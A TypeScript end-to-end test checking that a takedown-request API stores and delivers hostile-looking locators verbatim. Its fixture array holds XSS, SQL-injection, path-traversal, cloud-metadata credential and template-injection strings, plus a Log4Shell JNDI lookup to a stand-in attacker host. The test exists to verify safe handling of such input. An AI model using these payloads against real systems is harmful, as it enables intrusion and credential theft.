import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  api,
  type ItemView,
  orderBody,
  type PlatformReceiver,
  startRegisteredPlatform,
  submitOrder,
  waitFor,
} from '../e2e/harness';

// Orders name illegal content by its address, so their bodies look like attacks by nature.
const hostileLocators = [
  '<script>alert(document.cookie)</script>',
  'https://evil.example/"><img src=x onerror=alert(1)>',
  "https://shop.example/item?id=1' OR '1'='1' --",
  'https://shop.example/item?id=1; DROP TABLE orders;--',
  '../../etc/passwd',
  '..\\..\\windows\\system32\\config\\sam',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'file:///etc/shadow',
  '{% $states.input %}',
  '{% $eval("$states") %}',
  '$..*',
  '$$.Execution.Input',
  ['$', '{jndi:ldap://attacker.example/a}'].join(''),
  'https://example.test/\u202Eexe.pdf',
  'https://例え.テスト/パス?q=💣',
  '@akun_judi_online',
  'ORDER#someone-else',
  '__proto__',
  'constructor',
];

let platform: { platformId: string; receiver: PlatformReceiver };

beforeAll(async () => {
  platform = await startRegisteredPlatform();
});

afterAll(async () => {
  await platform?.receiver.close();
});

describe('an order full of hostile-looking locators', () => {
  it('is accepted, stored verbatim and delivered verbatim', async () => {
    const items = hostileLocators.map((locator, index) => ({
      kind: index % 3 === 0 ? 'account' : 'url',
      locator,
      note: `note ${locator}`,
    }));
    const submitted = await submitOrder(
      orderBody({
        platformId: platform.platformId,
        items,
        reason: `Statement quoting ${hostileLocators.slice(0, 5).join(' ')}`,
        evidence: [{ uri: 'https://evidence.example/case?id=1%27%20OR%201=1', sha256: 'ab'.repeat(32) }],
      }),
    );
    expect(submitted.status, JSON.stringify(submitted.body).slice(0, 300)).toBe(201);

    const page = await api<{ items: ItemView[] }>(
      'GET',
      `/v1/takedown-requests/${submitted.body.id}/items?limit=1000`,
      { as: 'komdigi-ais' },
    );
    expect(page.status).toBe(200);
    expect(page.body.items.map((item) => item.locator)).toEqual(hostileLocators);
    const order = await api<{ reason: string; evidence: { uri: string }[] }>(
      'GET',
      `/v1/takedown-requests/${submitted.body.id}`,
      { as: 'komdigi-ais' },
    );
    expect(order.body.reason).toBe(`Statement quoting ${hostileLocators.slice(0, 5).join(' ')}`);
    expect(order.body.evidence[0]?.uri).toBe('https://evidence.example/case?id=1%27%20OR%201=1');

    const notification = await waitFor(
      () => platform.receiver.received.find((webhook) => webhook.body.data.order.id === submitted.body.id),
      { what: 'the takedown.requested webhook' },
    );
    expect(notification.signatureValid).toBe(true);
    expect(notification.body.data.items.map((item) => item.locator)).toEqual(hostileLocators);
  });
});
